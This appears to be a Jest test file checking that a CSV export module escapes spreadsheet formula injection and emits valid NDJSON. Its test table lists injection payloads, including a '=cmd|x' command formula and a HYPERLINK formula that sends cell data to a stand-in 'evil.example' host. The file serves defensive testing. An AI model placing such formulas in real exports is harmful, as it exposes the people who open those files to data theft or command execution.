import { describe, expect, it } from '@jest/globals'
import fc from 'fast-check'
import { csv, csvCell, ndjson } from '../../src/core/export.js'

/** RFC 4180, read by hand. */
function readCsv(text: string): readonly (readonly string[])[] {
  return text
    .split(/\r\n(?=(?:[^"]*"[^"]*")*[^"]*$)/)
    .filter((line) => line !== '')
    .map((line) =>
      [...line.matchAll(/"((?:[^"]|"")*)"(?:,|$)/g)].map(([, cell = '']) =>
        cell.replaceAll('""', '"'),
      ),
    )
}

describe('a file that a spreadsheet opens', () => {
  // biome-ignore format: a table
  it.each([
    ['=1+1'], ['+44 20'], ['-1'], ['@SUM(A1)'], ['\t=1'], ['\r=1'], ['\n=1'], ['  =cmd|x'], ['\ufeff=1'], ['\u200b@x'], ['＝1'],
    ['=HYPERLINK("https://evil.example/?"&A1)'],
  ])('has no formula in %j', (text) => {
    const [[cell = ''] = []] = readCsv(csv([], [[text]]).replace(/^\r\n/, ''))
    expect(cell).toBe(`'${text}`)
  })

  it('leaves names, dates and numbers as they are', () => {
    const row = ['O’Hara, Seán', '2026-11-26 09:30', 'a "b"', '', 'x=1', -1]
    expect(csv(['A'], [row])).toBe(
      '"A"\r\n"O’Hara, Seán","2026-11-26 09:30","a ""b""","","x=1","-1"\r\n',
    )
  })

  it('holds whatever was put in, cell by cell, and no cell begins as a formula', () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 5 }),
        (cells) => {
          const [read = []] = readCsv(csv(cells, []))
          expect(read.map((cell) => cell.replace(/^'/, ''))).toEqual(
            cells.map((cell) => cell.replace(/^'/, '')),
          )
          for (const cell of cells) expect(csvCell(cell)).not.toMatch(/^"[\s]*[=+\-@]/)
        },
      ),
    )
  })

  it('is one JSON value a line otherwise', () => {
    const rows = [{ a: 'x\ny' }, { b: 1 }]
    const lines = ndjson(rows).trimEnd().split('\n')
    expect(lines.map((line) => JSON.parse(line))).toEqual(rows)
  })
})
